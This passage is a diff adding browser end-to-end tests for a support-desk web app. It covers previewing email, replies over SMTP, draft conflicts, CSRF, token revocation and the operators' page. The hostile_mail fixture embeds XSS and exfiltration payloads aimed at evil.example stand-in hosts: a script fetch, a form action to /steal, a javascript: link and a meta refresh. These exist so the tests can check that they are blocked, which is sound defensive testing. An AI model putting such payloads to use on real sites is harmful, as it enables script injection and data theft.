@@ -1,0 +1,1125 @@
+//! The agents' workspace and the operators' page in a real browser (headless
+//! Chromium over the DevTools protocol), against real instances: SQLite fed
+//! by a Maildir, PostgreSQL fed by Dovecot over IMAP, replies sent to a real
+//! SMTP server (aiosmtpd).
+//!
+//! Every host name the browser looks up resolves to a loopback "tripwire"
+//! server (`--host-resolver-rules`), so a request that leaves our origin is
+//! seen as a hit instead of a failed lookup. One browser serves every test of
+//! this binary. Screenshots of the main screens go to `target/screenshots/`.
+mod support;
+
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+use std::io::{Read, Write};
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex, OnceLock};
+use std::time::{Duration, Instant};
+use support::app::{ADMIN, ALICE, BOB, Db, TestApp, TestDb, base_config, maildir_config};
+use support::browser::{Browser, Page};
+use support::mail::deliver_maildir;
+use support::servers::{Dovecot, DovecotOptions};
+use support::smtp::{SmtpSink, SmtpSinkOptions};
+
+const WAIT: Duration = Duration::from_secs(45);
+
+// --- one browser and one tripwire per test binary -----------------------------------
+
+/// Records every request that reached it (any host name maps here).
+struct Tripwire {
+    port: u16,
+    hits: Arc<Mutex<Vec<String>>>,
+}
+
+fn tripwire() -> &'static Tripwire {
+    static WIRE: OnceLock<Tripwire> = OnceLock::new();
+    WIRE.get_or_init(|| {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind the tripwire");
+        let port = listener.local_addr().expect("addr").port();
+        let hits = Arc::new(Mutex::new(Vec::new()));
+        let seen = hits.clone();
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { continue };
+                let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
+                let mut buf = [0u8; 4096];
+                let n = conn.read(&mut buf).unwrap_or(0);
+                // The request head (or a TLS ClientHello, whose SNI names the host).
+                let head: String = String::from_utf8_lossy(&buf[..n])
+                    .chars()
+                    .map(|c| if c.is_ascii_graphic() || c == ' ' || c == '\n' { c } else { '.' })
+                    .take(600)
+                    .collect();
+                seen.lock().unwrap().push(head);
+                let _ = conn.write_all(
+                    b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
+                );
+            }
+        });
+        Tripwire { port, hits }
+    })
+}
+
+fn browser() -> &'static Browser {
+    static BROWSER: OnceLock<Browser> = OnceLock::new();
+    BROWSER.get_or_init(|| {
+        let port = tripwire().port;
+        Browser::launch_with(&[format!(
+            "--host-resolver-rules=MAP * 127.0.0.1:{port}, EXCLUDE 127.0.0.1"
+        )])
+    })
+}
+
+fn screenshot_dir() -> PathBuf {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/screenshots");
+    std::fs::create_dir_all(&dir).expect("screenshot folder");
+    dir
+}
+
+/// A screenshot of the whole page. The viewport grows to the page's height
+/// first, so the sandboxed previews (rendered out of process) are painted.
+async fn save_screenshot(page: &mut Page, name: &str) -> PathBuf {
+    let height = page
+        .eval("Math.ceil(document.documentElement.scrollHeight)")
+        .await
+        .ok()
+        .and_then(|v| v.as_u64())
+        .unwrap_or(800)
+        .clamp(800, 4000) as u32;
+    page.set_viewport(1280, height).await.expect("viewport");
+    page.pump(Duration::from_millis(300)).await;
+    let png = page.screenshot().await.expect("screenshot");
+    page.set_viewport(1280, 800).await.expect("viewport");
+    let path = screenshot_dir().join(name);
+    std::fs::write(&path, png).expect("write screenshot");
+    path
+}
+
+// --- driving the page ------------------------------------------------------------------
+
+fn js(s: &str) -> String {
+    serde_json::to_string(s).expect("a string")
+}
+
+fn truthy(v: &Value) -> bool {
+    match v {
+        Value::Null => false,
+        Value::Bool(b) => *b,
+        Value::Number(n) => n.as_f64().is_some_and(|x| x != 0.0),
+        Value::String(s) => !s.is_empty(),
+        _ => true,
+    }
+}
+
+/// Waits until `expr` is truthy in the page (handling its events meanwhile).
+async fn wait_js(page: &mut Page, expr: &str, what: &str) -> Value {
+    let deadline = Instant::now() + WAIT;
+    loop {
+        let v = page.eval(expr).await.unwrap_or(Value::Null);
+        if truthy(&v) {
+            return v;
+        }
+        if Instant::now() > deadline {
+            let status = page
+                .eval("(document.querySelector('#status')||{}).textContent || ''")
+                .await
+                .unwrap_or_default();
+            let url = page.eval("location.href").await.unwrap_or_default();
+            panic!(
+                "{what}: not within {WAIT:?} (at {url}; status line: {status}; console: {:?})",
+                page.console
+            );
+        }
+        page.pump(Duration::from_millis(100)).await;
+    }
+}
+
+async fn click(page: &mut Page, selector: &str) {
+    let expr = format!(
+        "(() => {{ const e = document.querySelector({}); if (!e) return false; e.click(); return true; }})()",
+        js(selector)
+    );
+    let done = page.eval(&expr).await.expect("click");
+    assert_eq!(done, json!(true), "nothing to click at {selector}");
+}
+
+async fn set_value(page: &mut Page, selector: &str, value: &str) {
+    let expr = format!(
+        "(() => {{ const e = document.querySelector({}); if (!e) return false; e.value = {}; \
+         e.dispatchEvent(new Event('input', {{bubbles: true}})); e.dispatchEvent(new Event('change', {{bubbles: true}})); return true; }})()",
+        js(selector),
+        js(value)
+    );
+    assert_eq!(
+        page.eval(&expr).await.expect("type"),
+        json!(true),
+        "no field at {selector}"
+    );
+}
+
+async fn text_of(page: &mut Page, selector: &str) -> String {
+    page.eval(&format!(
+        "(document.querySelector({}) || {{}}).textContent || ''",
+        js(selector)
+    ))
+    .await
+    .unwrap_or_default()
+    .as_str()
+    .unwrap_or_default()
+    .to_string()
+}
+
+/// Signs in through the form, as a person would, in a browser context of
+/// its own (its own cookies); returns the tab and the context.
+async fn sign_in(app: &TestApp, token: &str) -> Page {
+    sign_in_at(&app.url, token).await
+}
+
+async fn sign_in_at(url: &str, token: &str) -> Page {
+    let context = browser().new_context().await.expect("a browser context");
+    sign_in_in(url, token, &context).await
+}
+
+async fn sign_in_in(url: &str, token: &str, context: &str) -> Page {
+    let mut page = browser().new_page_in(Some(context)).await.expect("a tab");
+    page.set_viewport(1280, 800).await.expect("viewport");
+    page.navigate(&format!("{url}/sign-in"))
+        .await
+        .expect("sign-in page");
+    wait_js(
+        &mut page,
+        "!!document.querySelector('#sign-in')",
+        "the sign-in form",
+    )
+    .await;
+    set_value(&mut page, "#token", token).await;
+    click(&mut page, "#sign-in button[type=submit]").await;
+    wait_js(
+        &mut page,
+        "location.pathname === '/' && !!document.querySelector('#session-list') && !!window.htmx",
+        "My Sessions after sign-in",
+    )
+    .await;
+    page
+}
+
+/// Requests of the tab that went anywhere but our origin.
+fn foreign_requests(page: &Page, origin: &str) -> Vec<String> {
+    page.sent_requests()
+        .into_iter()
+        .filter(|u| {
+            !(u.starts_with(origin)
+                || u.starts_with("data:")
+                || u.starts_with("about:")
+                || u.starts_with("blob:"))
+        })
+        .collect()
+}
+
+/// Hits of the tripwire that came from our pages: requests for the test
+/// mails' hosts (`*.example`; for TLS, the name in the ClientHello). The
+/// browser's own background traffic (update checks) is not ours to judge.
+fn tripwire_hits() -> Vec<String> {
+    tripwire()
+        .hits
+        .lock()
+        .unwrap()
+        .iter()
+        .filter(|h| h.contains(".example"))
+        .cloned()
+        .collect()
+}
+
+// --- the instances ---------------------------------------------------------------------
+
+fn smtp_section(port: u16) -> String {
+    format!(
+        "\n[smtp]\nhost = \"127.0.0.1\"\nport = {port}\ntls = \"none\"\ntimeout_secs = 5\nretry_base_secs = 1\n"
+    )
+}
+
+/// Where the customer's mail goes in, per backend.
+enum Inbox {
+    Maildir(PathBuf),
+    Dovecot(Dovecot),
+}
+
+impl Inbox {
+    fn deliver(&self, name: &str, raw: &[u8]) {
+        match self {
+            Inbox::Maildir(root) => deliver_maildir(root, name, raw),
+            Inbox::Dovecot(d) => d.deliver_lmtp("support", raw).expect("LMTP delivery"),
+        }
+    }
+}
+
+/// SQLite with a Maildir, PostgreSQL with Dovecot; both send to `sink`.
+async fn spawn(db: Db, sink: &SmtpSink) -> (TestApp, Inbox) {
+    let test_db = TestDb::create(db).await;
+    match db {
+        Db::Sqlite => {
+            let root = test_db.dir().join("inbox");
+            let text = maildir_config(&test_db.url, &root) + &smtp_section(sink.port);
+            (
+                TestApp::spawn_on(test_db, Some(text)).await,
+                Inbox::Maildir(root),
+            )
+        }
+        Db::Postgres => {
+            assert!(
+                support::servers::available(),
+                "Dovecot is needed: run scripts/install-deps"
+            );
+            let d = Dovecot::start(DovecotOptions { tls: false }).expect("Dovecot starts");
+            let text = format!(
+                "{}{}\n[ingest]\nio_timeout_secs = 5\nmax_backoff_secs = 2\n\n[[mailboxes]]\nid = \"support-imap\"\nservice = \"support\"\nkind = \"imap\"\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\nusername = \"support\"\npassword = \"{}\"\n",
+                base_config(&test_db.url),
+                smtp_section(sink.port),
+                d.imap_port,
+                d.password()
+            );
+            (
+                TestApp::spawn_on(test_db, Some(text)).await,
+                Inbox::Dovecot(d),
+            )
+        }
+    }
+}
+
+/// A customer mail whose HTML tries every way out of the page: remote
+/// images, scripts, styles, frames, forms, refresh, plus the mXSS fixture.
+fn hostile_mail(subject: &str, message_id: &str) -> Vec<u8> {
+    let mxss = std::fs::read_to_string(
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/html/mxss.html"),
+    )
+    .expect("mxss fixture");
+    let html = format!(
+        r#"<p>Hello, order 77 arrived broken. Please refund it.</p>
+<img src="http://tracker.example/pixel.gif?agent=1" width="1" height="1">
+<img src="https://cdn.evil.example/banner.png">
+<script>document.title='PWNED';window.PWNED=1;fetch('http://evil.example/script')</script>
+<link rel="stylesheet" href="http://evil.example/style.css">
+<style>@import url(http://evil.example/import.css); body {{ background: url(http://evil.example/bg.png) }}</style>
+<iframe src="http://evil.example/frame"></iframe>
+<form action="http://evil.example/steal"><input name="q" value="x"><button>Go</button></form>
+<a href="javascript:alert('PWNED')">click me</a>
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
+<object data="http://evil.example/object.swf"></object>
+<video poster="http://evil.example/poster.jpg"></video>
+<svg><image href="http://evil.example/svg.png"/></svg>
+{mxss}"#
+    );
+    let raw = format!(
+        "From: Grace Hopper <grace@navy.example>\r\nTo: Support <support@example.com>\r\nSubject: {subject}\r\n\
+         Date: Tue, 24 Nov 2026 08:00:00 +0000\r\nMessage-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
+         Hello, order 77 arrived broken. Please refund it.\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{}\r\n--b1--\r\n",
+        html.replace('\n', "\r\n")
+    );
+    raw.into_bytes()
+}
+
+// --- the agent's whole story -------------------------------------------------------------
+
+async fn agent_story(db: Db) {
+    assert!(
+        support::smtp::available(),
+        "aiosmtpd is needed: run scripts/install-deps"
+    );
+    let sink = SmtpSink::start(SmtpSinkOptions::default()).expect("SMTP sink");
+    let (app, inbox) = spawn(db, &sink).await;
+    let tag = format!("{db:?}").to_lowercase();
+    let before = tripwire_hits().len();
+
+    // Sign in.
+    let mut page = sign_in(&app, ALICE).await;
+    page.eval("window.__sameDocument = 1")
+        .await
+        .expect("mark the document");
+
+    // A customer's mail arrives and shows in Waiting work, live.
+    let subject = format!("Broken order 77 ({tag})");
+    inbox.deliver(
+        "1.story.host",
+        &hostile_mail(&subject, &format!("story-{tag}@navy.example")),
+    );
+    let task = wait_js(
+        &mut page,
+        &format!(
+            "(() => {{ const b = Array.from(document.querySelectorAll('#queue button[data-action=pickup]')).find(b => b.getAttribute('aria-label').includes({})); return b ? b.dataset.task : null; }})()",
+            js(&subject)
+        ),
+        "the mail in Waiting work",
+    )
+    .await;
+    let task = task.as_str().expect("task id").to_string();
+
+    // Pick it up: the session opens with the mail's preview.
+    page.reset().await;
+    click(&mut page, &format!("#queue button[data-task='{task}']")).await;
+    wait_js(
+        &mut page,
+        &format!(
+            "(() => {{ const d = document.querySelector('#detail .session-detail'); return d && d.dataset.task === {} && !!document.querySelector('#detail iframe.preview[src]'); }})()",
+            js(&task)
+        ),
+        "the picked-up session with its preview",
+    )
+    .await;
+    let session = page
+        .eval("document.querySelector('#detail .session-detail').dataset.session")
+        .await
+        .unwrap()
+        .as_str()
+        .unwrap()
+        .to_string();
+    // The preview loaded (in its sandboxed frame), and nothing left our origin.
+    wait_js(
+        &mut page,
+        "performance.getEntriesByType('resource').some(e => e.name.includes('/preview?token='))",
+        "the preview document",
+    )
+    .await;
+    let note = text_of(&mut page, "#detail .remote-note").await;
+    assert!(
+        note.contains("remote images blocked") || note.contains("remote image blocked"),
+        "the blocked count is shown: {note:?}"
+    );
+    let sandbox = page
+        .eval("document.querySelector('#detail iframe.preview').getAttribute('sandbox')")
+        .await
+        .unwrap();
+    assert_eq!(
+        sandbox,
+        json!("allow-popups allow-popups-to-escape-sandbox")
+    );
+    assert_eq!(
+        page.eval("document.title").await.unwrap(),
+        json!("My Sessions · Switchboard")
+    );
+    assert_eq!(
+        page.eval("window.PWNED === undefined").await.unwrap(),
+        json!(true)
+    );
+    assert!(page.dialogs.is_empty(), "dialogs: {:?}", page.dialogs);
+    save_screenshot(&mut page, &format!("workspace-preview-{tag}.png")).await;
+
+    // Remote images through our proxy only.
+    click(&mut page, "#detail button[data-action=remote]").await;
+    wait_js(
+        &mut page,
+        "performance.getEntriesByType('resource').some(e => e.name.includes('remote=allow'))",
+        "the preview with remote images through the proxy",
+    )
+    .await;
+    // The frame's load event (its resource entry) came after its images were
+    // asked for, through the proxy: anything that tried to leave did so by now.
+    let foreign = foreign_requests(&page, &app.url);
+    assert!(foreign.is_empty(), "requests left our origin: {foreign:?}");
+    let hits = tripwire_hits()[before..].to_vec();
+    assert!(hits.is_empty(), "the tripwire was reached: {hits:?}");
+
+    // Reply with an attachment; the draft autosaves.
+    click(
+        &mut page,
+        "#detail button[data-action=draft][data-kind=reply]",
+    )
+    .await;
+    wait_js(
+        &mut page,
+        "(() => { const t = document.querySelector('.editor [name=to]'); return t && t.value.includes('grace@navy.example'); })()",
+        "the reply editor prefilled from the draft",
+    )
+    .await;
+    let body = page
+        .eval("document.querySelector('.editor [name=body]').value")
+        .await
+        .unwrap();
+    let words = format!("Dear Grace, the refund for order 77 is on its way ({tag}).");
+    set_value(
+        &mut page,
+        ".editor [name=body]",
+        &format!("{words}\n\n{}", body.as_str().unwrap_or_default()),
+    )
+    .await;
+    wait_js(
+        &mut page,
+        "/Saved \\(version [2-9]/.test(document.querySelector('.editor .save-state').textContent)",
+        "the autosave",
+    )
+    .await;
+    let dir = tempfile::tempdir().expect("temp dir");
+    let file_path = dir.path().join("refund-note.txt");
+    std::fs::write(&file_path, b"Refund note: 77 EUR back to your card.\n").unwrap();
+    let input = page
+        .call(
+            "Runtime.evaluate",
+            json!({"expression": "document.querySelector('.editor input[type=file]')"}),
+        )
+        .await
+        .expect("the file input");
+    page.call(
+        "DOM.setFileInputFiles",
+        json!({"files": [file_path.display().to_string()], "objectId": input["result"]["objectId"]}),
+    )
+    .await
+    .expect("choose a file");
+    let file_name = "refund-note.txt".to_string();
+    wait_js(
+        &mut page,
+        &format!(
+            "document.querySelector('.editor .attachment-list').textContent.includes({})",
+            js(&file_name)
+        ),
+        "the attachment on the draft",
+    )
+    .await;
+    save_screenshot(&mut page, &format!("workspace-editor-{tag}.png")).await;
+
+    // Send: the SMTP server receives it, and the thread says so.
+    click(&mut page, ".editor [data-editor=send]").await;
+    let received = {
+        let deadline = Instant::now() + WAIT;
+        loop {
+            let m = sink.messages();
+            if !m.is_empty() || Instant::now() > deadline {
+                break m;
+            }
+            page.pump(Duration::from_millis(100)).await;
+        }
+    };
+    assert_eq!(received.len(), 1, "one reply reached the SMTP server");
+    let sent = received[0].text();
+    assert!(sent.contains("refund for order 77 is on its way"), "{sent}");
+    assert!(sent.contains(&file_name), "the attachment went out: {sent}");
+    assert_eq!(received[0].rcpt_to, vec!["grace@navy.example".to_string()]);
+    wait_js(
+        &mut page,
+        "Array.from(document.querySelectorAll('#thread .reply .badge')).some(b => b.textContent.trim() === 'Sent')",
+        "the reply shown as sent on the thread (live)",
+    )
+    .await;
+
+    // Mark as handled, codes and tags, Save: read-only, and the info icon is gone.
+    assert_eq!(
+        page.eval(&format!(
+            "!!document.querySelector('#session-list .row[data-session=\"{session}\"] .info')"
+        ))
+        .await
+        .unwrap(),
+        json!(true),
+        "the info icon is on the unsaved session"
+    );
+    click(&mut page, "#detail button[data-action=handled]").await;
+    wait_js(
+        &mut page,
+        "!!document.querySelector('#wrapup button[value=save]:not([disabled])')",
+        "Save enabled after Mark as handled",
+    )
+    .await;
+    click(&mut page, "#wrapup input[name=primary][value=billing]").await;
+    click(&mut page, "#wrapup input[name=secondary][value=refund]").await;
+    set_value(&mut page, "#wrapup input[name=tags]", "refund, moth").await;
+    click(&mut page, "#wrapup button[value=save]").await;
+    wait_js(
+        &mut page,
+        &format!(
+            "!!document.querySelector('#detail .saved') && !document.querySelector('#wrapup') && \
+             !!document.querySelector('#session-list .row[data-session=\"{session}\"]') && \
+             !document.querySelector('#session-list .row[data-session=\"{session}\"] .info')"
+        ),
+        "the saved, read-only session without its info icon",
+    )
+    .await;
+    let readonly = text_of(&mut page, "#wrapup-widget").await;
+    assert!(
+        readonly.contains("Billing")
+            && readonly.contains("Refund")
+            && readonly.contains("refund, moth"),
+        "{readonly}"
+    );
+    assert_eq!(
+        page.eval("window.__sameDocument").await.unwrap(),
+        json!(1),
+        "all of it without a reload"
+    );
+    save_screenshot(&mut page, &format!("workspace-saved-{tag}.png")).await;
+
+    // The API agrees.
+    let (s, b) = app.get(ALICE, &format!("/api/v1/sessions/{session}")).await;
+    assert_eq!(s, StatusCode::OK, "{b}");
+    assert_eq!(b["state"], "concluded");
+    assert_eq!(b["wrapup"]["codes"]["primary"], json!(["billing"]));
+    assert_eq!(b["wrapup"]["tags"], json!(["refund", "moth"]));
+    let foreign = foreign_requests(&page, &app.url);
+    assert!(foreign.is_empty(), "requests left our origin: {foreign:?}");
+    assert!(tripwire_hits()[before..].is_empty());
+    page.close().await;
+    app.stop().await;
+}
+
+on_both_backends!(agent_story);
+
+// --- two tabs on one draft ------------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn two_tabs_editing_one_draft_see_the_conflict() {
+    let sink = SmtpSink::start(SmtpSinkOptions::default()).expect("SMTP sink");
+    let (app, inbox) = spawn(Db::Sqlite, &sink).await;
+    inbox.deliver(
+        "1.tabs.host",
+        &support::mail::mail(
+            "ada@analytical.example",
+            "Two tabs",
+            "tabs@analytical.example",
+            &[],
+            "Hello",
+        ),
+    );
+    let task = support::mail::wait_for(WAIT, "the task", || async {
+        let (_, q) = app.get(ALICE, "/api/v1/me/queue").await;
+        q["items"][0]["id"].as_str().map(String::from)
+    })
+    .await;
+    let session = app.pickup(ALICE, &task).await;
+    let context = browser().new_context().await.expect("a browser context");
+    let mut a = sign_in_in(&app.url, ALICE, &context).await;
+    let mut b = browser()
+        .new_page_in(Some(&context))
+        .await
+        .expect("second tab");
+    b.set_viewport(1280, 800).await.unwrap();
+    for page in [&mut a, &mut b] {
+        page.navigate(&format!("{}/?session={session}", app.url))
+            .await
+            .unwrap();
+        wait_js(
+            page,
+            "!!document.querySelector('#detail .session-detail') && !!window.htmx",
+            "the session",
+        )
+        .await;
+    }
+    // Tab A starts a reply; tab B continues the same draft.
+    click(&mut a, "#detail button[data-action=draft][data-kind=reply]").await;
+    wait_js(
+        &mut a,
+        "!!document.querySelector('.editor')",
+        "editor in tab A",
+    )
+    .await;
+    b.navigate(&format!("{}/?session={session}", app.url))
+        .await
+        .unwrap();
+    wait_js(
+        &mut b,
+        "!!document.querySelector('#thread button[data-action=edit-draft]')",
+        "the draft in tab B",
+    )
+    .await;
+    click(&mut b, "#thread button[data-action=edit-draft]").await;
+    wait_js(
+        &mut b,
+        "!!document.querySelector('.editor')",
+        "editor in tab B",
+    )
+    .await;
+    // A saves first; B's older version is refused and says so.
+    set_value(&mut a, ".editor [name=body]", "Written in tab A").await;
+    wait_js(
+        &mut a,
+        "/Saved \\(version 2/.test(document.querySelector('.editor .save-state').textContent)",
+        "A's autosave",
+    )
+    .await;
+    set_value(&mut b, ".editor [name=body]", "Written in tab B").await;
+    wait_js(
+        &mut b,
+        "!document.querySelector('.editor .conflict').hidden",
+        "the conflict in tab B",
+    )
+    .await;
+    let said = text_of(&mut b, ".editor .conflict-text").await;
+    assert!(said.contains("changed in another tab"), "{said}");
+    save_screenshot(&mut b, "workspace-conflict.png").await;
+    // Nothing was overwritten; B can load A's version.
+    let drafts = app
+        .count("SELECT count(*) FROM drafts WHERE body_text = 'Written in tab A'")
+        .await;
+    assert_eq!(drafts, 1, "tab A's text is what is stored");
+    click(&mut b, ".editor [data-editor=reload]").await;
+    wait_js(
+        &mut b,
+        "document.querySelector('.editor [name=body]').value === 'Written in tab A' && document.querySelector('.editor .conflict').hidden",
+        "tab B showing the saved version",
+    )
+    .await;
+    // Transfer from the page: the session ends as Transferred, in words and colour.
+    b.eval("document.querySelector('#detail form.transfer select').value = 'sales'")
+        .await
+        .unwrap();
+    click(&mut b, "#detail form.transfer button[type=submit]").await;
+    wait_js(
+        &mut b,
+        &format!(
+            "(() => {{ const r = document.querySelector('#session-list .row[data-session=\"{session}\"]'); \
+             return r && r.classList.contains('r-transferred') && r.textContent.includes('Transferred') && \
+             document.querySelector('#detail .badge').textContent.includes('Transferred'); }})()"
+        ),
+        "the transferred session",
+    )
+    .await;
+    let (_, t) = app.get(ADMIN, &format!("/api/v1/tasks/{task}")).await;
+    assert_eq!(
+        (t["service"].as_str(), t["state"].as_str()),
+        (Some("sales"), Some("queued"))
+    );
+    a.close().await;
+    b.close().await;
+    app.stop().await;
+}
+
+// --- CSRF, sign-out, revoked tokens -------------------------------------------------------------
+
+/// Signs in over plain HTTP; returns the cookie (`name=value`).
+async fn cookie_for(app: &TestApp, token: &str) -> String {
+    let client = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let r = client
+        .post(format!("{}/sign-in", app.url))
+        .form(&[("method", "token"), ("token", token), ("next", "/")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    let set = r.headers()["set-cookie"].to_str().unwrap().to_string();
+    assert!(
+        set.contains("HttpOnly") && set.contains("SameSite=Strict"),
+        "{set}"
+    );
+    assert!(!set.contains(token), "the cookie is not the token");
+    set.split(';').next().unwrap().to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csrf_is_required_and_signed_out_agents_are_bounced() {
+    let app = TestApp::spawn(Db::Sqlite).await;
+    let task = app.new_task("email", "CSRF", "x@customer.example").await;
+    let cookie = cookie_for(&app, ALICE).await;
+    let client = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let page = client
+        .get(format!("{}/", app.url))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(page.status(), StatusCode::OK);
+    let csp = page.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
+        "{csp}"
+    );
+    let html = page.text().await.unwrap();
+    let csrf = html
+        .split("name=\"csrf-token\" content=\"")
+        .nth(1)
+        .and_then(|r| r.split('"').next())
+        .expect("the CSRF token in the page")
+        .to_string();
+    assert!(
+        !html.contains("<script>") && !html.contains("style=\""),
+        "no inline script or style"
+    );
+    let pickup = format!("{}/api/v1/tasks/{task}/pickup", app.url);
+    // Without the token: refused, and nothing happened.
+    let r = client
+        .post(&pickup)
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    let b: Value = r.json().await.unwrap();
+    assert_eq!(b["error"]["code"], "csrf", "{b}");
+    // With a wrong token, or from another site: refused.
+    let r = client
+        .post(&pickup)
+        .header("cookie", &cookie)
+        .header("x-csrf-token", "0".repeat(40))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    let r = client
+        .post(&pickup)
+        .header("cookie", &cookie)
+        .header("x-csrf-token", &csrf)
+        .header("origin", "http://evil.example")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    let (_, t) = app.get(ADMIN, &format!("/api/v1/tasks/{task}")).await;
+    assert_eq!(t["state"], "queued", "no refused request changed anything");
+    // With it (and our own origin): done.
+    let r = client
+        .post(&pickup)
+        .header("cookie", &cookie)
+        .header("x-csrf-token", &csrf)
+        .header("origin", &app.url)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        r.status(),
+        StatusCode::CREATED,
+        "{}",
+        r.text().await.unwrap()
+    );
+    // Bearer tokens keep working without any of this.
+    let (s, _) = app.get(ALICE, "/api/v1/me/sessions").await;
+    assert_eq!(s, StatusCode::OK);
+    // Sign-out needs the token too.
+    let r = client
+        .post(format!("{}/sign-out", app.url))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+
+    // In the browser: sign out, then the page sends you to sign in.
+    let mut page = sign_in(&app, BOB).await;
+    click(&mut page, "form[action='/sign-out'] button").await;
+    wait_js(
+        &mut page,
+        "location.pathname === '/sign-in'",
+        "the sign-in page after sign-out",
+    )
+    .await;
+    page.navigate(&format!("{}/", app.url)).await.unwrap();
+    wait_js(
+        &mut page,
+        "location.pathname === '/sign-in' && !!document.querySelector('#sign-in')",
+        "bounced to sign-in",
+    )
+    .await;
+    save_screenshot(&mut page, "sign-in.png").await;
+
+    // Revoked: the open page notices by itself and goes to sign-in.
+    let mut page = sign_in(&app, ALICE).await;
+    let new_token = "alice-new-token-0123456789";
+    let (s, b) = app
+        .put(
+            ADMIN,
+            "/api/v1/admin/agents/alice",
+            json!({"name": "Alice", "email": "alice@example.com", "token": new_token, "services": ["support"]}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::OK, "{b}");
+    wait_js(
+        &mut page,
+        "location.pathname === '/sign-in'",
+        "a revoked agent bounced to sign-in",
+    )
+    .await;
+    // The old browser session is gone for good; the API says so in words.
+    let r = client
+        .get(format!("{}/api/v1/me/sessions", app.url))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
+    let b: Value = r.json().await.unwrap();
+    assert!(
+        b["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("sign in again"),
+        "{b}"
+    );
+    page.close().await;
+    app.stop().await;
+}
+
+// --- the operators' page ----------------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_operator_page_retries_and_releases_quarantined_mail() {
+    let db = TestDb::create(Db::Sqlite).await;
+    let root = db.dir().join("inbox");
+    let text = maildir_config(&db.url, &root);
+    let app = TestApp::spawn_on(db, Some(text)).await;
+    deliver_maildir(
+        &root,
+        "1.bad.host",
+        b"\x00\x01\x02 this is not a mail at all \xff\xfe",
+    );
+    // Agents do not get the page.
+    let mut agent = sign_in(&app, ALICE).await;
+    agent.navigate(&format!("{}/ops", app.url)).await.unwrap();
+    wait_js(
+        &mut agent,
+        "document.body.textContent.includes('for administrators')",
+        "the refusal in words",
+    )
+    .await;
+    agent.close().await;
+
+    let mut page = sign_in(&app, ADMIN).await;
+    page.navigate(&format!("{}/ops", app.url)).await.unwrap();
+    wait_js(
+        &mut page,
+        "!!document.querySelector('#quarantine tr[data-quarantine] button[data-action=q-retry]')",
+        "the quarantined mail, live",
+    )
+    .await;
+    wait_js(
+        &mut page,
+        "document.querySelector('#mailboxes').textContent.includes('inbox')",
+        "the mailbox",
+    )
+    .await;
+    save_screenshot(&mut page, "ops.png").await;
+    // Retry: it still cannot be read, and the page says why.
+    click(&mut page, "#quarantine button[data-action=q-retry]").await;
+    wait_js(
+        &mut page,
+        "document.querySelector('#status').textContent.includes('still cannot take it in')",
+        "the retry's answer in words",
+    )
+    .await;
+    // Release: a task, and the entry leaves the list.
+    click(&mut page, "#quarantine button[data-action=q-release]").await;
+    wait_js(
+        &mut page,
+        "document.querySelector('#status').textContent.includes('1 new task')",
+        "the release's answer",
+    )
+    .await;
+    wait_js(
+        &mut page,
+        "!document.querySelector('#quarantine tr[data-quarantine]')",
+        "the list without it",
+    )
+    .await;
+    assert_eq!(app.count("SELECT count(*) FROM tasks").await, 1);
+    page.close().await;
+    app.stop().await;
+}
+
+// --- history, search and the keyboard ---------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn history_loads_on_scroll_filters_and_keyboard() {
+    let app = TestApp::spawn(Db::Sqlite).await;
+    // 55 concluded sessions (declined and RONA offers), one of them findable.
+    for i in 0..55 {
+        let subject = if i == 7 {
+            "Special parcel".to_string()
+        } else {
+            format!("Call {i}")
+        };
+        let result = if i % 2 == 0 { "declined" } else { "rona" };
+        let (s, b) = app
+            .post(
+                ADMIN,
+                "/api/v1/tasks",
+                json!({"service": "support", "modality": "call", "subject": subject,
+                       "customer": {"address": format!("+4144000{i:04}")},
+                       "outcome": {"agent": "alice", "result": result}}),
+            )
+            .await;
+        assert_eq!(s, StatusCode::CREATED, "{b}");
+    }
+    let mut page = sign_in(&app, ALICE).await;
+    let rows = "document.querySelectorAll('#session-list .row').length";
+    assert_eq!(
+        page.eval(rows).await.unwrap(),
+        json!(50),
+        "the first page of history"
+    );
+    let words = text_of(&mut page, "#session-list").await;
+    assert!(
+        words.contains("Declined") && words.contains("RONA"),
+        "results in words"
+    );
